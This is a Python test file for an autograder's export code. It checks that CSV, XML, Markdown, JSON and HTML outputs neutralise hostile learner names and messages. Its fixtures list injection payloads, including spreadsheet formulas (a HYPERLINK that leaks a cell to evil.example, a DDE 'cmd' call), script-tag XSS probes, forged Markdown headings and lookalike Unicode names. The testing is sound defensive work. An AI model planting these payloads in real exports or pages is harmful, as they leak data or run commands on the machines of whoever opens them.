"""Exports are an attack surface, and no learner name can break a batch.

Hostile folder names (formulas, over-long unicode, bytes that are not UTF-8, newlines, HTML,
Markdown, dots, dashes, names that differ only by case or by characters the sanitizer replaces)
and hostile messages (NUL, ESC, ``]]>``, HTML) go through every export: each learner gets a row,
each file parses, nothing becomes a formula, markup or a forged heading. Most tests drive the
export functions on synthetic records (fast); one grades a tiny hostile class end to end.
"""

from __future__ import annotations

import csv
import json
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

import cli
from grader.batch import export, store
from grader.batch.store import Key, Store, display_name, file_stem, parse_display
from tests.test_batch import WRONG, rows

FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_NAMES = [
    "Frank Müller",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width '='
    "'=quoted",
    "ü" * 150,  # 300 bytes of UTF-8
    os.fsdecode(b"Ren\xe9e \xff\xfe"),  # what unzip leaves from a Windows archive
    "two\nlines",
    "cr\rname",
    "tab\tname",
    "<script>alert(1)</script>",
    "# 16/16",
    "**bold** [link](http://evil.example) `code` | table |",
    "..",
    ".hidden",
    "-rf",
    "Alice",
    "alice",  # differs only by case
    "a:b",
    "a?b",  # sanitizes to the same prefix as a:b
    "x" * 120 + "1",
    "x" * 120 + "2",  # the same readable prefix once truncated
    "back\\slash",
    "\u202eevil",  # right-to-left override
    "percent%2F..%2Fescape",
]

HOSTILE_MESSAGES = [
    "NUL \x00 here",
    "ESC \x1b[31mred\x1b[0m",
    "]]> <![CDATA[ x ]]>",
    "<b>bold</b> & <script>alert(1)</script>",
    "# 16/16\n## autograd-mul: 16/16 (graded)\n===\n- [x] all passed",
    "lone \ud800 surrogate, bad byte \udce9, \ufffe",
    "=cmd|' /C calc'!A0",
]


def hostile_records() -> list[dict]:
    records = []
    for i, learner in enumerate(HOSTILE_NAMES):
        msg = HOSTILE_MESSAGES[i % len(HOSTILE_MESSAGES)]
        status = "infra_error" if i == 3 else "graded"
        records.append({
            "learner": learner, "exercise": "autograd-mul", "status": status,
            "score": None if status == "infra_error" else 1.5, "max_score": 4.0, "message": msg,
            "tests": [{"name": "test_forward", "outcome": "passed", "points": 1.5, "max_points": 1.5,
                       "message": "", "hidden": False},
                      {"name": "<script>alert('grader')</script>", "outcome": "failed", "points": 0.0,
                       "max_points": 2.5, "message": HOSTILE_MESSAGES[(i + 1) % len(HOSTILE_MESSAGES)],
                       "hidden": True}],
        })
    return sorted(records, key=lambda r: (r["learner"], r["exercise"]))


def _strip_quote(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def _assert_no_formula(cell: str) -> None:
    assert not cell.startswith(FORMULA_CHARS + tuple("\uff1d\uff0b\uff0d\uff20")), repr(cell)
    assert not cell.lstrip().startswith(FORMULA_CHARS), repr(cell)


def _force_short_hash_collisions(monkeypatch) -> None:
    real = store.name_hash
    monkeypatch.setattr(store, "name_hash",
                        lambda learner, chars=8: "0" * chars if chars == 8 else real(learner, chars))


# ---------------------------------------------------------------- names


def test_file_stems_are_safe_short_readable_and_unique():
    stems = [file_stem(n) for n in HOSTILE_NAMES]
    assert len(set(stems)) == len(HOSTILE_NAMES)
    assert len({s.casefold() for s in stems}) == len(HOSTILE_NAMES)  # also on a case-insensitive disk
    for name, stem in zip(HOSTILE_NAMES, stems):
        raw = stem.encode("utf-8")  # always encodable: no lone surrogates
        assert len(raw) <= store.PREFIX_BYTES + 1 + store.HASH_CHARS, name
        assert not stem.startswith((".", "-", " ")) and stem not in (".", "..")
        assert not re.search(r"[/\\\x00-\x1f\x7f:*?\"<>|\u202e]", stem), (name, stem)
        assert "%" not in stem or "%" in name  # never percent-encoded
        assert re.fullmatch(r".+-[0-9a-f]{8}", stem)
    assert file_stem("Frank Müller").startswith("Frank Müller-")  # unicode kept, never percent-encoded
    assert file_stem(os.fsdecode(b"Ren\xe9e")).startswith("Ren_e-")
    # the hash is of the exact original bytes
    import hashlib
    assert file_stem(os.fsdecode(b"Ren\xe9e")).endswith(hashlib.sha256(b"Ren\xe9e").hexdigest()[:8])


def test_display_names_are_printable_and_lossless():
    shown = [display_name(n) for n in HOSTILE_NAMES + ["\ud800", "\udcc3\udca9", "é", "\x85", "\\x85"]]
    assert len(set(shown)) == len(shown)
    for name, text in zip(HOSTILE_NAMES, shown):
        text.encode("utf-8")
        assert "\n" not in text and "\r" not in text and "\t" not in text and "\x1b" not in text
        assert parse_display(text) == name
    assert display_name("Frank Müller") == "Frank Müller"
    assert display_name(os.fsdecode(b"Ren\xe9e")) == "Ren\\xe9e"  # as backslashreplace shows the bytes
    assert display_name("back\\slash") == "back\\\\slash"


def test_csv_cells_never_start_a_formula():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\n=1", "'x", "\uff1d1"):
        cell = export.csv_text(text)
        assert cell.startswith("'"), repr(text)
    assert export.csv_text("Alice") == "Alice" and export.csv_text("") == ""
    assert export.csv_number(2.5) == "2.5" and export.csv_number(0) == "0" and export.csv_number(-1.0) == "-1"
    assert export.csv_number("=1") == "'=1"  # not a number prep computed: text rules


# ---------------------------------------------------------------- every export, hostile records


@pytest.fixture
def exported(tmp_path):
    records = hostile_records()
    export.write_all(records, tmp_path)
    return records, tmp_path


def test_grades_csv_has_every_learner_and_no_formula(exported):
    records, out = exported
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    assert table[0] == ["learner", "exercise", "score", "max_score", "status"]
    body = table[1:]
    assert len(body) == len(HOSTILE_NAMES)
    assert sorted(parse_display(_strip_quote(r[0])) for r in body) == sorted(HOSTILE_NAMES)  # lossless
    for row in body:
        for cell in row:
            _assert_no_formula(cell)
        assert row[2] == "" if row[4] == "infra_error" else float(row[2]) == 1.5  # numbers stay numbers
        assert float(row[3]) == 4.0
    by_name = {parse_display(_strip_quote(r[0])): r for r in body}
    assert by_name['=HYPERLINK("http://evil.example/?leak="&A1,"click")'][0].startswith("'=HYPERLINK")
    assert by_name["Frank Müller"][0] == "Frank Müller"


def test_junit_parses_and_holds_no_forbidden_characters(exported):
    records, out = exported
    text = (out / "junit.xml").read_text(encoding="utf-8")
    root = ET.parse(out / "junit.xml").getroot()
    cases = root.findall("./testsuite/testcase")
    assert len(cases) == 2 * len(HOSTILE_NAMES)
    names = {c.get("name").rsplit(" :: ", 1)[0] for c in cases}
    assert names == {display_name(n) for n in HOSTILE_NAMES}
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", text)
    messages = [e.get("message") for c in cases for e in c]
    assert any("\\x00" in m for m in messages) and any("\\x1b[31m" in m for m in messages)
    assert any("]]>" in m for m in messages)  # kept as text, escaped in the file
    assert root.find("./testsuite").get("errors") == "2"


def test_feedback_markdown_headings_are_only_preps_own(exported):
    records, out = exported
    files = sorted((out / "feedback").iterdir())
    assert len(files) == len(HOSTILE_NAMES)
    for path in files:
        md = path.read_text(encoding="utf-8")
        headings = [ln for ln in md.splitlines() if ln.lstrip().startswith("#")]
        assert headings[0] == "# Feedback"
        assert all(re.fullmatch(r"## autograd\\-mul: (1\\\.5|not scored)/4 \((graded|infra error)\)", h)
                   for h in headings[1:]), headings
        for line in md.splitlines():
            assert not re.match(r"\s*(=+|-{3,})\s*$", line), line  # no setext heading underline either
            assert not re.match(r"\s*[-*+] \[x\]", line)
        assert "<script" not in md and "<b>" not in md and "\x00" not in md and "\x1b" not in md
    learner_lines = [ln for p in files for ln in p.read_text(encoding="utf-8").splitlines()
                     if ln.startswith("Learner: ")]
    assert len(learner_lines) == len(HOSTILE_NAMES)
    assert "Learner: \\# 16/16" in learner_lines
    assert "Learner: &lt;script&gt;alert\\(1\\)&lt;/script&gt;" in learner_lines


def test_per_learner_json_and_gradescope_for_everyone(exported):
    records, out = exported
    learners = [json.loads(p.read_text(encoding="utf-8")) for p in sorted((out / "learners").iterdir())]
    assert sorted(parse_display(d["learner"]) for d in learners) == sorted(HOSTILE_NAMES)
    for d in learners:
        assert (out / "learners" / f"{d['file']}.json").exists()
        assert (out / "feedback" / f"{d['file']}.md").exists()
        assert json.loads((out / "gradescope" / d["file"] / "results.json").read_text(encoding="utf-8"))["tests"]
        assert not re.search("[\ud800-\udfff]", json.dumps(d, ensure_ascii=False))  # strict JSON parsers are fine
    for path in [*(out / "learners").iterdir(), *(out / "feedback").iterdir(), *(out / "gradescope").iterdir()]:
        assert len(path.name.encode()) < 130 and not path.name.startswith((".", "-"))
        assert "%" not in path.name or path.name.startswith("percent%2F")  # never percent-encoded


def _report_scripts(page: str) -> list[str]:
    """The text of every script element in the report: prep's own is the only one there may be."""
    return re.findall(r"<script\b[^>]*>(.*?)</script>", page, flags=re.S | re.I)


def test_html_report_escapes_everything(exported):
    records, out = exported
    page = (out / "report.html").read_text(encoding="utf-8")
    assert _report_scripts(page) == [export.REPORT_SCRIPT] and page.lower().count("<script") == 1
    assert "&lt;script&gt;" in page and "<b>" not in page


def test_export_names_fall_back_to_the_full_hash_when_short_hashes_meet(tmp_path, monkeypatch):
    _force_short_hash_collisions(monkeypatch)
    records = [{**r, "learner": n} for r, n in zip(hostile_records(), ["Alice", "alice", "ALICE"])]
    export.write_all(records, tmp_path)
    assert len(list((tmp_path / "feedback").iterdir())) == 3
    assert len({p.name.casefold() for p in (tmp_path / "learners").iterdir()}) == 3


# ---------------------------------------------------------------- the store


def test_store_keeps_every_hostile_name_apart_and_finds_it_again(tmp_path):
    s = Store(tmp_path)
    s.lock()
    try:
        for r in hostile_records():
            s.put(r["learner"], r["exercise"], Key("sha-" + r["learner"][:3], r["exercise"], "v1"), r)
    finally:
        s.unlock()
    files = list((tmp_path / "results" / "autograd-mul").iterdir())
    assert len(files) == len(HOSTILE_NAMES)
    assert all(f.parent == tmp_path / "results" / "autograd-mul" for f in files)
    got = s.all_records()
    assert [r["learner"] for r in got] == sorted(HOSTILE_NAMES)  # the exact original, surrogates included
    for r in hostile_records():
        name = r["learner"]
        final = s.is_final(name, "autograd-mul", Key("sha-" + name[:3], "autograd-mul", "v1"))
        assert final == (r["status"] != "infra_error"), repr(name)  # an infra_error is always re-graded
        assert s.get(name, "autograd-mul")["message"] == r["message"]


def test_store_short_hash_collision_uses_the_full_hash(tmp_path, monkeypatch):
    _force_short_hash_collisions(monkeypatch)
    s = Store(tmp_path)
    s.lock()
    try:
        for name in ("a:b", "a?b", "a*b"):  # the same prefix, and (forced) the same short hash
            s.put(name, "x", Key(name, "x", "v"), {"exercise": "x", "status": "graded", "score": 1.0})
    finally:
        s.unlock()
    assert len(list((tmp_path / "results" / "x").iterdir())) == 3
    assert [r["learner"] for r in s.all_records()] == ["a*b", "a:b", "a?b"]
    for name in ("a:b", "a?b", "a*b"):
        assert s.is_final(name, "x", Key(name, "x", "v"))


def test_a_store_file_of_the_old_percent_encoded_naming_is_ignored(tmp_path):
    old = tmp_path / "results" / "x" / "Frank%20M%C3%BCller.json"
    old.parent.mkdir(parents=True)
    old.write_text(json.dumps({"learner": "Frank Müller", "exercise": "x", "status": "graded", "score": 1.0,
                               "key": {"sha256": "s", "exercise": "x", "grader_version": "v"}}))
    s = Store(tmp_path)
    assert s.all_records() == [] and s.get("Frank Müller", "x") is None  # re-graded, never listed twice


# ---------------------------------------------------------------- end to end


def test_prep_grade_on_a_hostile_class_exports_everyone_and_resumes(tmp_path):
    """The whole `prep grade` on folder names a red team would pick.

    --unsafe-no-sandbox: learner names never enter the sandbox (the submission goes over the wire
    as text), so the naming is the same with or without it, and the test runs where bubblewrap
    cannot start; three workers only (most folders are not gradable), to stay cheap.
    """
    klass = tmp_path / "class"
    klass.mkdir()
    wrong = WRONG.read_text()
    raising = "raise ValueError('NUL \\x00 ESC \\x1b[31m ]]> <b>bold</b> # 16/16')\n" + wrong
    folders = {  # name -> content of autograd-mul.py (None: an empty folder, not gradable)
        '=HYPERLINK("https:\\evil.example","x")': None,  # no '/' in a folder name
        "é" * 120: wrong,  # 240 bytes: legal, and would be 720 bytes percent-encoded
        "two\nlines": "def f(:\n",
        "<script>alert(1)<\\script>": raising,  # a folder name has no '/'
        "# 16|16": None,
        "a:b": None,
        "a?b": None,
        "-rf": None,
        "Alice": None,
        "alice": None,
    }
    for name, content in folders.items():
        (klass / name).mkdir()
        if content is not None:
            (klass / name / "autograd-mul.py").write_text(content)
    bad_bytes = os.fsencode(klass) + b"/Ren\xe9e \xff"  # not UTF-8, as unzip leaves it
    os.mkdir(bad_bytes)
    with open(bad_bytes + b"/autograd-mul.py", "w") as f:
        f.write(wrong)
    learners = sorted([*folders, os.fsdecode(b"Ren\xe9e \xff")])
    out = tmp_path / "out"
    args = ["grade", str(klass), "--exercise", "autograd-mul", "--out", str(out), "--jobs", "1",
            "--unsafe-no-sandbox", "--no-canaries", "--seed", "3"]

    first = CliRunner().invoke(cli.cli, args)
    assert first.exit_code == 0, first.output
    assert f"{len(learners)} result(s): {len(learners) - 7} graded now" in first.output
    got = rows(out)
    assert sorted(parse_display(_strip_quote(k)) for k in got) == learners
    for row in got.values():
        for cell in row.values():
            _assert_no_formula(cell)
    assert float(got[display_name(os.fsdecode(b"Ren\xe9e \xff"))]["score"]) > 0
    assert float(got["é" * 120]["score"]) > 0
    assert got["two\\nlines"]["status"] == "not_gradable"
    assert got["<script>alert(1)<\\\\script>"]["status"] == "not_gradable"
    ET.parse(out / "junit.xml")
    assert len(list((out / "feedback").iterdir())) == len(learners)
    assert len(list((out / "learners").iterdir())) == len(learners)
    assert len(list((out / "gradescope").iterdir())) == len(learners)
    for path in (out / "feedback").iterdir():
        md = path.read_text(encoding="utf-8")
        assert [ln for ln in md.splitlines() if ln.startswith("#")][0] == "# Feedback"
        assert not any(ln.startswith("# ") for ln in md.splitlines()[1:])
        assert "<script" not in md and "<b>" not in md and "\x1b" not in md
    report = (out / "report.html").read_text(encoding="utf-8")
    assert report.lower().count("<script") == 1 and len(_report_scripts(report)) == 1  # prep's own only
    stored = Store(out).all_records()
    assert sorted(r["learner"] for r in stored) == learners  # the exact names, non-UTF-8 bytes included
    exports_before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file() and "results" not in p.parts
                      and p.name not in (".lock", "batch.json")}

    again = CliRunner().invoke(cli.cli, args)  # resume: every stored record is found, nothing re-graded
    assert again.exit_code == 0, again.output
    assert f"{len(learners)} result(s): 0 graded now, {len(learners)} kept from before" in again.output
    assert {p: p.read_bytes() for p in exports_before} == exports_before


# Names that a browser, a spreadsheet or a terminal draws exactly as "Anna": zero-width space, soft hyphen, word
# joiner, zero-width (non-)joiner, a tag character (past U+FFFF), a variation selector, a Hangul filler.
LOOKALIKES_OF_ANNA = ["Anna\u200b", "An\u00adna", "Anna\u2060", "An\u200cna", "An\u200dna", "Anna\U000e0041",
                      "Anna\ufe0f", "Anna\u3164", "\u034fAnna"]


def test_a_name_that_differs_only_by_what_draws_nothing_never_shows_as_another_learners(tmp_path):
    import unicodedata

    for name in LOOKALIKES_OF_ANNA:
        shown = display_name(name)
        assert shown != "Anna" and parse_display(shown) == name, (name, shown)
        assert not [c for c in shown if unicodedata.category(c) == "Cf" or c in "\u034f\u3164\ufe0f"], (name, shown)
    records = [{"learner": n, "exercise": "autograd-mul", "status": "graded", "score": 16.0 if n == "Anna" else 0.0,
                "max_score": 16.0, "tests": []} for n in ["Anna"] + LOOKALIKES_OF_ANNA]
    export.write_all(records, tmp_path)
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
        learners = [row["learner"] for row in csv.DictReader(f)]
    assert learners.count("Anna") == 1 and len(set(learners)) == len(records)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert page.count("<td>Anna</td>") == 1


def test_a_joiner_that_is_spelling_in_a_persian_or_indic_name_is_kept():
    """A zero-width non-joiner or joiner between two Arabic-script or Indic letters is part of the name's spelling
    (it changes how the letters are drawn): shown as written. Between Latin letters it draws nothing, so it is
    escaped there, as at a name's edge."""
    for name in ("\u0645\u062d\u0645\u062f\u200c\u0631\u0636\u0627", "\u0915\u094d\u200d\u0937"):
        assert display_name(name) == name and parse_display(display_name(name)) == name
    for name in ("A\u200dB", "\u0645\u062d\u0645\u062f\u200c", "\u200c\u0631\u0636\u0627", "Anna\u200c\u0631"):
        shown = display_name(name)
        assert shown != name and "\\u200" in shown and parse_display(shown) == name


def test_learners_whose_names_look_the_same_are_named_in_the_report_and_by_prep_grade(tmp_path):
    """Two folders whose names display the same ("Alice Smith" and "Аlice Smith" with a Cyrillic А, "José" with a
    precomposed é and with e + a combining accent, a fullwidth "Ｍartin", "rnia" and "mia") are two rows that read
    as one learner in grades.csv, report.html and feedback/: an instructor copying scores to a roster by name can
    credit the wrong learner. They stay apart (their exact names, their own files), and report.html and prep grade
    name them, with the characters that tell them apart; names that only look related ("Zoe" and "Zoë") are not."""
    import unicodedata

    pairs = [("Alice Smith", "\u0410lice Smith"), ("Jos\u00e9", unicodedata.normalize("NFD", "Jos\u00e9")),
             ("Martin", "\uff2dartin"), ("mia", "rnia"), ("\u039fscar", "Oscar")]
    names = [n for pair in pairs for n in pair] + ["Zoe", "Zo\u00eb", "Bob", "Rob"]
    assert export.lookalike_names(names) == sorted(sorted(p) for p in pairs)
    records = [{"learner": n, "exercise": "autograd-mul", "status": "graded", "score": 16.0 if i % 2 else 0.0,
                "max_score": 16.0, "tests": []} for i, n in enumerate(names)]
    export.write_all(records, tmp_path)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    warning = page[page.index("<div class=warn>"):page.index("</div>", page.index("<div class=warn>"))]
    assert "U+0410 CYRILLIC CAPITAL LETTER A" in warning and "U+0301 COMBINING ACUTE ACCENT" in warning
    assert "U+FF2D FULLWIDTH LATIN CAPITAL LETTER M" in warning and "rnia" in warning and "Zoe" not in warning
    assert "U+039F GREEK CAPITAL LETTER OMICRON" in warning and "Bob" not in warning

    class Report:
        lookalikes = export.lookalike_names(names)

    runner = CliRunner()
    with runner.isolation() as (out, err, _):
        cli._warn_lookalikes(Report())
        said = err.getvalue().decode()
    assert said.count("warning: these learners' names look the same") == len(pairs)
    assert "'\u0410lice Smith' (\u0410 U+0410 CYRILLIC CAPITAL LETTER A)" in said
